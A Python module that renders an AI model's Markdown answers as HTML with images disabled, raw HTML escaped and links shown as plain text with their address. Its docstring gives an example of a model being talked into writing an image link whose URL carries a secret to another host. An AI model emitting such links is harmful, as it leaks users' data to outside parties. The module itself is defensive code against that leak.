"""Answers as HTML that can reach nothing.

A model may be talked into writing ``![](https://elsewhere/?q=secret)``: a browser that draws it has
sent the secret. So images are not a thing here, raw HTML is text, and a link is its words and its
address, to be read but not followed (a browser may look up the host of an anchor by itself).
"""

from __future__ import annotations

from collections.abc import MutableMapping, Sequence
from html import escape
from typing import Any

from markdown_it import MarkdownIt
from markdown_it.renderer import RendererHTML
from markdown_it.token import Token

from dazi.console.visible import reveal


class _Renderer(RendererHTML):
    """Links without anchors."""

    def link_open(self, *_: Any) -> str:
        return ""

    def link_close(
        self,
        tokens: Sequence[Token],
        idx: int,
        options: Any,
        env: MutableMapping[str, Any],
    ) -> str:
        opening = _opening(tokens, idx)
        if opening is None or opening.info == "auto":
            return ""
        return f' <span class="dz-url">({escape(str(opening.attrGet("href")))})</span>'

    def table_open(self, *_: Any) -> str:
        return '<div class="dz-scroll" tabindex="0"><table>\n'

    def table_close(self, *_: Any) -> str:
        return "</table></div>\n"


def _opening(tokens: Sequence[Token], close: int) -> Token | None:
    depth = 0
    for token in reversed(tokens[: close + 1]):
        depth += (token.type == "link_close") - (token.type == "link_open")
        if depth == 0:
            return token
    return None


_markdown = (
    MarkdownIt(
        "commonmark", {"html": False, "linkify": False, "breaks": True}, renderer_cls=_Renderer
    )
    .enable(["table", "strikethrough"])
    .disable(["image"])
)


def to_html(text: str) -> str:
    """``text`` (CommonMark with tables) as HTML without anchors, images, scripts or raw HTML."""
    return str(_markdown.render(reveal(text)))
